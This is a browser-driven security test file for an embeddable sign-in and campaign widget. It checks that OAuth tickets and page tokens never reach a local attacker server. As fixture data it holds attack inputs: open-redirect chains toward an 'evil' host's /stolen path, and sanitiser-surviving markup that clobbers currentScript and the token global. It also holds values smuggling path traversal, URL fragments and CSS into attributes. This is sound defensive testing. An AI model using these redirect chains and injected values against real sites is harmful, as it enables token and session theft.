// Attacks that a browser decides, in a real Chromium: links to the start from wherever a victim may find them, and markup
// that visitors of a customer's page may write. No ticket may leave our origin but for the page where the sign-in began,
// and no token may go anywhere but to us.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { listen } from "../../../demo/addresses.mjs";
import { Participant } from "../../../demo/site/participant.mjs";
import { CONTAINER, container, event, openHostPages } from "../support/browser/host_page.mjs";
import { answerQuestions, signInAtProvider } from "../support/browser/visit.mjs";
import { until } from "../support/patience.mjs";

/** @typedef {import("playwright-core").Page} Page */

/** @type {Awaited<ReturnType<typeof openHostPages>>} */ let pages;
/** The customer's other pages: a forum, and redirects to wherever their query says. @type {string} */ let acme;
/** @type {string} */ let evil;
/** What the attacker's server was asked for. @type {string[]} */ const asked = [];
/** @type {(() => Promise<void>)[]} */ const closing = [];

/** A page's HTML. @param {string} body */
const html = (body) => `<!doctype html><html lang="en"><title>Page</title><body>${body}</body></html>`;
const escape = (/** @type {string} */ text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** @param {(request: import("node:http").IncomingMessage, response: import("node:http").ServerResponse, to: string) => void} answer */
async function serve(answer) {
  const server = await listen(0);
  server.answerWith((request, response) => answer(request, response, new URL(request.url ?? "/", "http://x").searchParams.get("to") ?? ""));
  closing.push(() => server.close());
  return server.port;
}

before(async () => {
  pages = await openHostPages();
  evil = `http://127.0.0.1:${await serve((request, response, to) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "content-type": "text/html" }).end(html(`<a id="link" rel="${request.url?.startsWith("/quiet") ? "noreferrer" : ""}" href="${escape(to)}">Win</a>`));
  })}`;
  acme = `http://localhost:${await serve((request, response, to) => {
    const at = (/** @type {string} */ path) => request.url?.startsWith(path);
    if (at("/out")) return void response.writeHead(302, { location: to }).end();
    const body = at("/meta")
      ? `<meta http-equiv="refresh" content="0;url=${escape(to)}">`
      : at("/script") ? `<script>location.replace(${JSON.stringify(to)} + location.hash)</script>`
      // Two pages of the customer's: with links in what visitors write, and with a policy that tells other sites everything.
      : `${at("/open") ? '<meta name="referrer" content="unsafe-url">' : ""}<a id="link" href="${escape(to)}">Win</a>`;
    response.writeHead(200, { "content-type": "text/html" }).end(html(body));
  })}`;
  pages.document.origins.push(acme);
  assert.equal((await pages.all.demo.operator.call("PUT", "/v1/accounts/demo", pages.document)).status, 200);
});
after(async () => {
  await pages?.close();
  await Promise.all(closing.map((close) => close()));
});

/** Every URL of the top window that held a ticket. @param {Page} page */
function tickets(page) {
  /** @type {URL[]} */
  const held = [];
  page.on("framenavigated", (frame) => frame === page.mainFrame() && frame.url().includes("handstamp=") && held.push(new URL(frame.url())));
  return held;
}

/** The attacker's link to the start: with a bind of the attacker's, and a page that passes fragments on. */
async function link() {
  const attacker = new Participant(pages.worker);
  const { bind } = (await attacker.post("/v1/drafts", { account: "demo", campaignId: "100002", step: "identityset" })).body;
  const index = pages.document.origins.indexOf(acme);
  const query = new URLSearchParams({ account: "demo", campaignId: "100002", bind, return: `${index}:/out?to=${evil}/stolen` });
  return `${pages.worker}/oauth/start?${query}`;
}

/** Where the victim finds the link, as the page to open. @type {Record<string, (start: string) => string>} */
const PLACES = {
  "opened from an e-mail": (start) => start,
  "on the attacker's page": (start) => `${evil}/page?to=${encodeURIComponent(start)}`,
  "on the attacker's page, with noreferrer": (start) => `${evil}/quiet?to=${encodeURIComponent(start)}`,
  "in user content on the customer's site": (start) => `${acme}/forum?to=${encodeURIComponent(start)}`,
  "behind a 302 of the customer's": (start) => `${evil}/page?to=${encodeURIComponent(`${acme}/out?to=${encodeURIComponent(start)}`)}`,
  "behind a meta refresh of the customer's": (start) => `${acme}/meta?to=${encodeURIComponent(start)}`,
  "behind a script redirect of the customer's": (start) => `${acme}/script?to=${encodeURIComponent(start)}`,
};

for (const [where, place] of Object.entries(PLACES))
  test(`a link to the start ${where}: the ticket stays on our own origin, in the victim's own campaign`, async () => {
    const { context, page } = await pages.all.visitor();
    const held = tickets(page);
    const first = place(await link());
    await page.goto(first, { waitUntil: "commit" });
    if (/^\/(page|quiet|forum)$/.test(new URL(first).pathname)) await page.locator("#link").click();
    await signInAtProvider(page);
    // Nothing was answered here yet, so the campaign begins, and the form is filled when it is reached.
    await answerQuestions(page);
    await page.getByRole("heading", { name: "Almost there, Lea" }).waitFor();
    assert.ok(held.length > 0);
    for (const { origin, pathname } of held) assert.deepEqual([origin, pathname], [pages.worker, "/campaign/demo/100002"]);
    assert.ok(!asked.some((path) => path.startsWith("/stolen")));
    await context.close();
  });

test("a link on a page of the customer's that tells other sites its whole URL leads back to that very page, and is of no use", async () => {
  const { context, page } = await pages.all.visitor();
  const held = tickets(page);
  const open = `${acme}/open?to=${encodeURIComponent(await link())}`;
  await page.goto(open);
  await page.locator("#link").click();
  await signInAtProvider(page);
  await page.waitForURL((url) => url.href.startsWith(open.slice(0, 100)) || url.pathname.startsWith("/open"));
  assert.deepEqual(held.map(({ origin, pathname }) => [origin, pathname]), [[acme, "/open"]]);
  assert.ok(!asked.some((path) => path.startsWith("/stolen")));
  await context.close();
});

test("a page that tells other sites nothing gets its visitors back where they were, query and all", async () => {
  const body = CONTAINER.replace("100001", "100002");
  const { context, page, screen, faults } = await pages.hostPage({ body, head: '<meta name="referrer" content="no-referrer">', path: "/deep/page?edition=7&x[1]=y#prizes" });
  await answerQuestions(screen);
  await screen.getByRole("button", { name: "Continue with your account" }).press("Enter");
  await signInAtProvider(page);
  await screen.getByRole("heading", { name: "Almost there, Lea" }).waitFor();
  await page.waitForURL(`${pages.site}/deep/page?edition=7&x[1]=y#prizes`);
  assert.deepEqual(faults, []);
  await context.close();
});

/** Loads the page once more, and returns a list that grows by the body of each request for admission. @param {import("playwright-core").Page} page */
async function admissionsOf(page) {
  /** @type {any[]} */
  const sent = [];
  page.on("request", (request) => request.url().endsWith("/v1/token/admit") && sent.push(JSON.parse(request.postData() ?? "{}")));
  await page.reload();
  return sent;
}

for (const where of /** @type {const} */ (["before", "behind"]))
  test(`markup that names another account ${where} the page's own: that account is not sent the page's token`, async () => {
    const { operator } = pages.all.demo;
    const { oauth: _, campaigns: { 100001: campaign }, ...document } = pages.document;
    const evilAccount = { ...document, account: "evil", campaigns: { 100001: campaign } };
    assert.equal((await operator.call("PUT", "/v1/accounts/evil/secrets/TOKEN_KEY", { value: Buffer.alloc(32, 7).toString("base64url") })).status, 204);
    const put = await operator.call("PUT", "/v1/accounts/evil", evilAccount);
    assert.equal(put.status, 200, JSON.stringify(put.body));
    const token = await pages.mint();
    const markup = '<div data-handstamp-account="evil" data-handstamp-campaign="100001"></div>';
    const body = where === "before" ? markup + CONTAINER : CONTAINER + markup;
    const script = `window.handstampToken = ${JSON.stringify(token)};`;
    const tagOf = (/** @type {string} */ query) => `<script async src="${pages.worker}/tag.js${query}"></script>`;
    for (const [query, own] of /** @type {const} */ ([["", false], ["?account=demo", true]])) {
      const { context, page } = await pages.hostPage({ body, script, tag: tagOf(query) });
      const sent = await admissionsOf(page);
      await page.waitForFunction(() => /** @type {any} */ (window).seen.filter((/** @type {any} */ one) => ["admitted", "refused"].includes(one.name)).length >= 2);
      await until(() => sent.length >= 2, "both campaigns asked to be admitted");
      assert.ok(sent.every((one) => one.account !== "evil" || one.token === ""), query);
      assert.equal(sent.some((one) => one.account === "demo" && one.token === token), own, "with the account in the tag's URL, the page's own campaign has it");
      assert.equal(await page.evaluate(() => /** @type {any} */ (window).seen.some((/** @type {any} */ one) => one.code === "token_account")), true);
      await context.close();
    }
  });

test("markup that names another account and asks for the page's own login: the page is not asked, and no token goes there", async () => {
  const token = await pages.mint();
  const markup = '<div id="planted" data-handstamp-account="evil" data-handstamp-campaign="100002" data-handstamp-login="own"></div>';
  const { operator } = pages.all.demo;
  const { campaigns: { 100002: campaign }, ...document } = pages.document;
  const secret = (/** @type {string} */ name, /** @type {string} */ purpose) => operator.call("PUT", `/v1/accounts/evil/secrets/${name}`, { value: Buffer.alloc(32, 7).toString("base64url"), purpose });
  for (const [name, purpose] of [["TOKEN_KEY", "verify"], ["OIDC_CLIENT", "client"]]) assert.equal((await secret(name, purpose)).status, 204);
  const put = await operator.call("PUT", "/v1/accounts/evil", { ...document, account: "evil", oauth: { ...document.oauth, redirectUri: "account" }, campaigns: { 100002: campaign } });
  assert.equal(put.status, 200, JSON.stringify(put.body));
  /** @type {string[]} */
  const sent = [];
  const { context, page } = await pages.hostPage({
    body: markup + CONTAINER,
    script: `window.handstampLogin = async () => { window.asked = true; return "${token}"; };`,
    prepare: ({ page }) => page.on("request", (request) => sent.push(request.postData() ?? "")),
  });
  const planted = page.frameLocator("#planted iframe");
  await answerQuestions(planted);
  await planted.getByRole("button", { name: "Continue with your account" }).press("Enter");
  await page.waitForURL((url) => url.origin !== pages.site);
  assert.equal(sent.some((body) => body.includes(token)), false);
  await context.close();
});

test("the older tag, too, passes the page's token to no account that markup alone names, however late it hears of it", async () => {
  const token = await pages.mint();
  const box = (/** @type {string} */ account) => `<div id="old" data-handstamp-account="${account}" data-handstamp-campaign="100001"></div>`;
  const script = `window._qual_async = [["createIframe", "old", "${pages.worker}", "qualp", "1", "100%", "600px", "", "", "", ""]];`;
  const { context, page } = await pages.hostPage({ body: box("evil") + box("demo"), script, tag: `<script async src="${pages.worker}/tag-shim.js"></script>` });
  const sent = await admissionsOf(page);
  await page.waitForFunction(() => !Array.isArray(/** @type {any} */ (window)._qual_async));
  await page.evaluate((value) => /** @type {any} */ (window)._qual_async.push(["setMetaData", "token", value]), token);
  await page.waitForFunction(() => /** @type {any} */ (window).seen.some((/** @type {any} */ one) => one.name === "refused"));
  await until(() => sent.length > 0, "the campaign asked to be admitted");
  assert.ok(sent.every((one) => one.token === ""), JSON.stringify(sent.map(({ account }) => account)));
  await context.close();
});

test("a browser that says only from which origin it comes: the sign-in ends on our own origin, at the questions", async () => {
  const body = CONTAINER.replace("100001", "100002");
  const { context, page, screen } = await pages.hostPage({ body, path: "/deep/page", tag: "" });
  await context.route(/\/tag\.js/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("unsafe-url", "origin") });
  });
  await page.addScriptTag({ url: `${pages.worker}/tag.js` });
  await answerQuestions(screen);
  await screen.getByRole("button", { name: "Continue with your account" }).press("Enter");
  await signInAtProvider(page);
  await page.getByText("Your answers stayed on the page before").waitFor();
  assert.equal(new URL(page.url()).origin, pages.worker);
  await answerQuestions(page);
  await page.getByRole("heading", { name: "Almost there, Lea" }).waitFor();
  await context.close();
});

test("a page that frames the campaign without the tag: the sign-in leads the whole window there and back", async () => {
  const body = `<iframe id="framed" src="${pages.worker}/campaign/demo/100002" width="800" height="700"></iframe>`;
  const { context, page } = await pages.hostPage({ body, path: "/framing", tag: "" });
  const framed = page.frameLocator("#framed");
  await answerQuestions(framed);
  await framed.getByRole("button", { name: "Continue with your account" }).press("Enter");
  await signInAtProvider(page);
  await page.waitForURL((url) => url.origin === pages.worker);
  await page.getByRole("heading", { level: 1 }).first().waitFor();
  await context.close();
});

/** Markup as visitors may leave it: sanitisers keep `data-*`, `id` and `name`. @type {Record<string, () => string>} */
const MARKUP = {
  "a base": () => `<div data-handstamp-account="demo" data-handstamp-campaign="100003" data-handstamp-base="${evil}"></div>`,
  "a base on the element": () => `<handstamp-campaign data-handstamp-account="demo" data-handstamp-campaign="100003" data-handstamp-base="${evil}"></handstamp-campaign>`,
  "an account that climbs": () => '<div data-handstamp-account=".." data-handstamp-campaign="../diagnosis?x"></div>',
  "a language with a fragment": () => '<div data-handstamp-account="demo" data-handstamp-campaign="100003" data-handstamp-lang="en&preview#token=x"></div>',
  "a height with a style": () => '<div id="styled" data-handstamp-account="demo" data-handstamp-campaign="100003" data-handstamp-height="9px;position:fixed;inset:0;x:"></div>',
  "the script's name": () => `<img name="currentScript" src="${evil}/tag.js">`,
  "the script's name, with a form": () => `<form name="currentScript"><input name="src" value="${evil}/tag.js"></form>`,
  "the token's name": () => `<a id="handstampToken" href="${evil}">x</a>`,
  "the queue's name": () => '<form id="handstamp"><input name="q"><input name="campaigns"></form>',
};

for (const [name, markup] of Object.entries(MARKUP))
  test(`markup with ${name}: the token goes to us alone, and the page's own campaign is shown`, async () => {
    const before = asked.length;
    const body = markup() + container({ token: await pages.mint() });
    const { context, page, screen } = await pages.hostPage({ body, path: "/host?handstamp-debug" });
    /** @type {URL[]} */
    const shown = [];
    page.on("request", (request) => request.isNavigationRequest() && request.frame() !== page.mainFrame() && shown.push(new URL(request.url())));
    await page.reload();
    await event(page, "admitted");
    await screen.getByRole("button", { name: "Start" }).waitFor();
    assert.ok(shown.length > 0);
    for (const { origin, searchParams, hash } of shown) assert.deepEqual([origin, searchParams.has("preview"), hash], [pages.worker, false, ""]);
    // A picture that the markup itself names is all that the attacker's server may be asked for.
    assert.deepEqual(asked.slice(before).filter((path) => path !== "/tag.js"), []);
    if (name.startsWith("a height")) assert.equal(await page.locator("#styled").evaluate((box) => getComputedStyle(box).position), "static");
    await context.close();
  });
